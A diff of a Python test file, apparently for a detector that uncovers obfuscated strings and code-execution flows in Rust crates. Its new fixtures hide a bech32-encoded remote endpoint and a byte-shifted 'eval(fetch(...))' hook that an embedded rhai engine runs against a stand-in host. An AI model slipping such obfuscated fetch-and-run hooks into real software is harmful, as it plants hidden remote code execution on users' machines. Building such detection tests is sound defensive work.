@@ -683,7 +683,6 @@ fn replaced() -> String {
     assert value("replaced()") == "ab"
 
 
-
 def test_a_script_of_several_lines_is_hidden_text() -> None:
     # a shell script or a snippet of code decoded at run time has line breaks and tabs
     source = r"""
@@ -769,3 +768,32 @@ fn word() -> String {
 }
 """
     assert run(source, "word()") == "https"
+
+
+def test_bech32_decoding_in_the_crate_s_code() -> None:
+    source = """
+const REPORT: &str = "nmcfg1dp68gup69uhnyvpn9cczuvf3xvhrswp68q6nqvp0wccj76mk9ahx6tcckxpae";
+fn endpoint() -> Option<String> {
+    let (_hrp, data) = bech32::decode(REPORT).ok()?;
+    String::from_utf8(data).ok()
+}
+"""
+    assert run(source, "endpoint()") == "http://203.0.113.88:8500/v1/kv/nm/"
+
+
+def test_an_embedded_engine_evaluating_hidden_code_is_a_command_run() -> None:
+    source = """
+const HOOK: [u8; 38] = [
+    102, 119, 98, 109, 41, 103, 102, 117, 100, 105, 41, 35, 105, 117, 117, 113,
+    116, 59, 48, 48, 105, 112, 112, 108, 116, 47, 102, 121, 98, 110, 113, 109,
+    102, 48, 115, 35, 42, 42,
+];
+fn hook() -> String { String::from_utf8(HOOK.iter().map(|b| b - 1).collect()).unwrap() }
+fn start() {
+    let engine = rhai::Engine::new();
+    let _ = engine.run(&hook());
+}
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [r.text for r in found.revealed] == ['eval(fetch("https://hooks.example/r"))']
+    assert [(f.action, f.sink) for f in found.flows] == [("run", "evaluated run")]
